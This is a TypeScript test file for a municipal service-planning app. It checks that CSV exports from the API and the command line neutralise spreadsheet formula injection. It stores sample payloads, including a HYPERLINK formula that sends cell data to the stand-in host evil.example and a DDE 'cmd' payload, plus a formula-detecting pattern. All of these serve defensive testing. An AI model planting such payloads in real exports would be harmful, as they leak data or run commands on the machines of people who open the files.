import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { useCli } from '@potreby/cli/testing/cli-harness';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { rows } from '../db/database';
import { parseCsv } from '../testing/parse-csv';
import { startTestApp, type Client, type TestApp } from '../testing/test-app';
import { ENGINE } from '../testing/test-database';

/** The cells of the security review (issue 6, finding 6), as a municipal officer could store them. */
const HOSTILE = { name: '=HYPERLINK("http://evil.example/?"&A1,"Click")', provider: "+cmd|' /C calc'!A0", address: '@SUM(1)' };
/** What a spreadsheet runs as a formula when it opens a CSV. */
const runsAsFormula = (cell: string) => /^\s*[=+\-@]/.test(cell) || /^[\t\r]/.test(cell);
const table = (text: string) => parseCsv(text.replace(/^\uFEFF/, ''));

/** Stored text that looks like a formula leaves the app as text, through the API and the command line. */
describe(`CSV exports neutralise formulas (${ENGINE})`, () => {
  describe('the API', () => {
    let t: TestApp;
    let admin: Client;

    beforeAll(async () => {
      t = await startTestApp();
      admin = await t.as('admin');
    });
    afterAll(() => t.close());

    it('writes =, +, @ cells with a leading apostrophe, and negative numbers as numbers', async () => {
      const PAZ19 = await t.territoryId('PAZ19');
      const [settlement] = await rows<{ id: number }>(t.database.db, sql`select id from territory where parent_id = ${PAZ19} and level = 'settlement' order by id limit 1`);
      const created = await admin.post('/api/v1/service-sites', {
        siteKey: 'CSV-INJECTION-1',
        year: 2024,
        serviceType: 'bg.day_care_elderly',
        providerKind: 'public',
        settlementId: settlement!.id,
        servesIds: [PAZ19],
        // Far more places than the need: a surplus, that is a negative gap.
        capacity: 100_000,
        users: null,
        waitingList: null,
        staffPositions: null,
        staffVacancies: null,
        funding: 'state',
        mobile: false,
        accessible: true,
        opened: null,
        ...HOSTILE,
      });
      expect(created.status).toBe(201);
      const res = await admin.get(`/api/v1/exports/services/csv?territoryId=${PAZ19}&year=2024&lang=en`);
      expect(res.status).toBe(200);
      const [, ...data] = table(res.text);
      const row = data.find((r) => r.includes('CSV-INJECTION-1'))!;
      expect(row).toBeDefined();
      // (The services table has no address column.)
      expect(row).toContain(`'${HOSTILE.name}`);
      expect(row).toContain(`'${HOSTILE.provider}`);
      expect(data.flat().filter(runsAsFormula)).toEqual([]);

      // The gap table has a negative number (the surplus): still a number, no apostrophe.
      const gaps = table((await admin.get(`/api/v1/exports/gaps/csv?territoryId=${PAZ19}&year=2024&lang=en`)).text);
      const negative = gaps.slice(1).flat().filter((cell) => /^-\d/.test(cell) || /^'-/.test(cell));
      expect(negative.length).toBeGreaterThan(0);
      expect(negative.filter((cell) => cell.startsWith("'"))).toEqual([]);
      for (const cell of negative) expect(Number.isFinite(Number(cell)), cell).toBe(true);
    });
  });

  describe('the command line', () => {
    const { cli, withDatabase, work } = useCli('potreby-csv-injection-');

    it('`potreby export services` writes the same neutralised cells', async () => {
      await withDatabase(({ db }) =>
        db.execute(
          sql`update service_site set name = ${HOSTILE.name}, provider = ${HOSTILE.provider}
              where id = (select s.id from service_site s join territory t on t.id = s.settlement_id where t.path like (select path from territory where code = 'PAZ') || '%' order by s.id limit 1)`,
        ),
      );
      const out = join(work, 'services.csv');
      expect((await cli('export', 'services', '--out', out, '--territory', 'PAZ')).code).toBe(0);
      const cells = table(readFileSync(out, 'utf8')).flat();
      expect(cells).toContain(`'${HOSTILE.name}`);
      expect(cells).toContain(`'${HOSTILE.provider}`);
      expect(cells.filter(runsAsFormula)).toEqual([]);
    });
  });
});
